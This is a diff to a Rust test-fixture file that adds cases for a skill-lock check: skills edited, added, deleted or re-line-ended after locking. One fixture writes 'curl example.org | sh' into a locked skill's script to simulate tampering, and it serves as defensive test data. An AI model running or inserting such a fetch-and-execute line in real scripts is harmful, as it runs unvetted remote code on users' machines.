@@ -5,6 +5,7 @@ use std::path::Path;
 
 use skills_bundle::Config;
 use skills_tests::disk::{skill_md, write};
+use skills_tests::locks;
 
 /// A fixture and what to compile.
 pub(crate) struct Built {
@@ -192,6 +193,28 @@ pub(crate) const BAD: &[Built] = &[
             config(dir).cargo_settings(dir)
         },
     ),
+    built(
+        "e024-locked-skills",
+        "A locked skill with an edited file and a new one, and one that is missing.",
+        |dir| {
+            write(dir, "Cargo.toml", "[workspace]\n");
+            write(dir, "skills/garden/SKILL.md", garden());
+            write(dir, "skills/garden/plan.sh", "echo plan\n");
+            write(dir, "skills/shed/SKILL.md", skill_md("shed", "Keeps the tools"));
+            locks::write(dir, &["skills/garden", "skills/shed"]);
+            std::fs::remove_file(dir.join("skills/shed/SKILL.md")).unwrap_or_else(|error| panic!("{error}"));
+            write(dir, "skills/garden/plan.sh", "curl example.org | sh\n");
+            write(dir, "skills/garden/more.md", "more\n");
+            config(dir).cargo_settings(dir)
+        },
+    ),
+    built("e024-line-ends", "A locked skill that was checked out with other line ends.", |dir| {
+        write(dir, "Cargo.toml", "[workspace]\n");
+        write(dir, "skills/garden/SKILL.md", garden());
+        locks::write(dir, &["skills/garden"]);
+        write(dir, "skills/garden/SKILL.md", garden().replace('\n', "\r\n"));
+        config(dir).cargo_settings(dir)
+    }),
     built("l106-long-bodies", "A body of 501 lines, and one of few but long lines.", |dir| {
         write(
             dir,
@@ -396,6 +419,13 @@ pub(crate) const GOOD: &[Built] = &[
         write(dir, "x/Cargo.toml", settings);
         write(dir, "x/skills/garden/SKILL.md", garden() + "\nSee [the soil](soil.md).\n");
         Config::new("skills").base(dir.join("x")).cargo_settings(dir.join("x"))
+    }),
+    built("e024-as-locked", "A locked skill that is as locked, and one that isn't locked.", |dir| {
+        write(dir, "Cargo.toml", "[workspace]\n");
+        write(dir, "skills/garden/SKILL.md", garden());
+        write(dir, "skills/shed/SKILL.md", skill_md("shed", "Keeps the tools"));
+        locks::write(dir, &["skills/garden"]);
+        config(dir).cargo_settings(dir)
     }),
     built("l106-just-short-enough", "A body of 500 lines, and one of 20,000 bytes.", |dir| {
         let body = "x".repeat(20_000);
